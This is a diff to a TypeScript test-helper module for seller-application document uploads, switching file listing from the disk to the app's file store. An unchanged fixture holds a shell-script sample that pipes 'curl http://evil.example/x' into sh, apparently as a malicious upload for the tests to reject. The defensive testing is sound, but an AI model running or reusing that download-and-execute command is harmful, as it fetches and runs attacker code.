@@ -1,7 +1,5 @@
-import { readdirSync } from 'node:fs';
-import path from 'node:path';
 import type { Kit } from '../../test/kit.ts';
-import { sellerDocumentsDir } from './storage.ts';
+import { applicationPrefix, SELLER_DOCUMENTS_FOLDER } from './storage.ts';
 
 // What only the seller application tests need on top of the kit (server/test/kit.ts, which holds the
 // valid application and the call): bank details, document bytes, and the files an application left.
@@ -30,20 +28,19 @@ export const DOCX_BYTES = Buffer.concat([
 ]);
 export const SCRIPT_BYTES = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n', 'latin1');
 
-/** The files stored for an application, by name (empty when the folder is missing). */
-export function storedFiles(t: Kit, applicationId: string): string[] {
+/** The documents stored for an application, by name, read through the app's file store. */
+export async function storedFiles(t: Kit, applicationId: string): Promise<string[]> {
+  let prefix: string;
   try {
-    return readdirSync(path.join(sellerDocumentsDir(t.config.dataDir), applicationId)).sort();
+    prefix = applicationPrefix(applicationId);
   } catch {
     return [];
   }
+  return (await t.app.platform.store.listPrivate(prefix)).map((key) => key.slice(prefix.length)).sort();
 }
 
-/** Every application folder on disk. */
-export function applicationFolders(t: Kit): string[] {
-  try {
-    return readdirSync(sellerDocumentsDir(t.config.dataDir));
-  } catch {
-    return [];
-  }
+/** Every application that has documents in the app's file store, by id. */
+export async function applicationFolders(t: Kit): Promise<string[]> {
+  const keys = await t.app.platform.store.listPrivate(`${SELLER_DOCUMENTS_FOLDER}/`);
+  return [...new Set(keys.map((key) => key.split('/')[1] as string))].sort();
 }
